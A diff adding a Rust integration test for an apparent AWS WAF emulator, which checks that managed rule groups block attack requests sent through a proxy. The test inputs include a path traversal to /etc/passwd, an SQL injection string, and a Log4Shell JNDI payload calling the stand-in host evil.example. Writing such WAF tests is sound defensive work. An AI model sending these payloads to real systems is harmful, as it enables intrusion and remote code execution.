@@ -539,3 +539,95 @@ async fn the_proxy_decides_live_traffic_by_the_web_acl_and_its_changes() {
     delete_open.send().await.unwrap();
     let _ = front;
 }
+
+#[tokio::test]
+async fn awss_managed_rule_groups_protect_an_application_through_the_proxy() {
+    let upstream = rampart_testkit::upstream::start().await.unwrap();
+    let server = TestServer::start_with(|c| {
+        c.proxy = vec![rampart_server::ProxyConfig {
+            name: "shop".into(),
+            listen: "127.0.0.1:0".parse().unwrap(),
+            upstream: format!("http://{upstream}"),
+            web_acl: Some("managed".into()),
+        }];
+    })
+    .await
+    .unwrap();
+    let shop = server.running.as_ref().unwrap().proxies[0].clone();
+    let c = waf(&server);
+    let listed = c.list_available_managed_rule_groups().scope(Scope::Regional).send().await.unwrap();
+    let names: Vec<&str> = listed.managed_rule_groups().iter().filter_map(|g| g.name()).collect();
+    assert!(names.contains(&"AWSManagedRulesCommonRuleSet") && names.contains(&"AWSManagedRulesKnownBadInputsRuleSet"));
+    let described = c
+        .describe_managed_rule_group()
+        .vendor_name("AWS")
+        .name("AWSManagedRulesKnownBadInputsRuleSet")
+        .scope(Scope::Regional)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(described.capacity(), Some(200));
+    assert_eq!(described.label_namespace(), Some("awswaf:managed:aws:known-bad-inputs:"));
+    assert!(described.rules().iter().any(|r| r.name() == Some("Log4JRCE_HEADER")));
+    let missing = c.describe_managed_rule_group().vendor_name("AWS").name("AWSManagedRulesNope").scope(Scope::Regional);
+    assert_eq!(code(missing.send().await), "WAFNonexistentItemException");
+
+    let group = |name: &str, priority: i32| {
+        let statement = aws_sdk_wafv2::types::ManagedRuleGroupStatement::builder().vendor_name("AWS").name(name);
+        let statement = if name == "AWSManagedRulesCommonRuleSet" {
+            // Uploads are large here: count instead of block, as AWS users override it.
+            statement.rule_action_overrides(
+                aws_sdk_wafv2::types::RuleActionOverride::builder()
+                    .name("SizeRestrictions_BODY")
+                    .action_to_use(RuleAction::builder().count(CountAction::builder().build()).build())
+                    .build()
+                    .unwrap(),
+            )
+        } else {
+            statement
+        };
+        Rule::builder()
+            .name(name)
+            .priority(priority)
+            .statement(Statement::builder().managed_rule_group_statement(statement.build().unwrap()).build())
+            .override_action(
+                OverrideAction::builder().none(aws_sdk_wafv2::types::NoneAction::builder().build()).build(),
+            )
+            .visibility_config(visibility(name))
+            .build()
+            .unwrap()
+    };
+    let rules = vec![
+        group("AWSManagedRulesCommonRuleSet", 1),
+        group("AWSManagedRulesSQLiRuleSet", 2),
+        group("AWSManagedRulesKnownBadInputsRuleSet", 3),
+    ];
+    let capacity = c.check_capacity().scope(Scope::Regional).set_rules(Some(rules.clone())).send().await.unwrap();
+    assert_eq!(capacity.capacity(), 1100);
+    c.create_web_acl()
+        .name("managed")
+        .scope(Scope::Regional)
+        .default_action(DefaultAction::builder().allow(AllowAction::builder().build()).build())
+        .set_rules(Some(rules))
+        .visibility_config(visibility("managed"))
+        .send()
+        .await
+        .unwrap();
+
+    let client = hyper_util::client::legacy::Client::builder(hyper_util::rt::TokioExecutor::new())
+        .build(hyper_util::client::legacy::connect::HttpConnector::new());
+    let url = |path: &str| format!("http://{}{path}", shop.addr);
+    let browser = [("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")];
+    assert_eq!(send(&client, "GET", &url("/products/42?color=blue"), &browser, "").await.status, 200);
+    let big = "a".repeat(20_000);
+    assert_eq!(send(&client, "POST", &url("/upload"), &browser, &big).await.status, 200, "the body rule only counts");
+    for (path, headers, what) in [
+        ("/", vec![], "no User-Agent"),
+        ("/download?file=..%2F..%2Fetc%2Fpasswd", browser.to_vec(), "path traversal"),
+        ("/item?id=1%27%20OR%20%271%27%3D%271", browser.to_vec(), "SQL injection"),
+        ("/", vec![browser[0], ("x-api-version", "${jndi:ldap://evil.example/a}")], "Log4Shell"),
+        ("/WEB-INF/web.xml", browser.to_vec(), "an exploitable path"),
+    ] {
+        assert_eq!(send(&client, "GET", &url(path), &headers, "").await.status, 403, "{what}");
+    }
+}
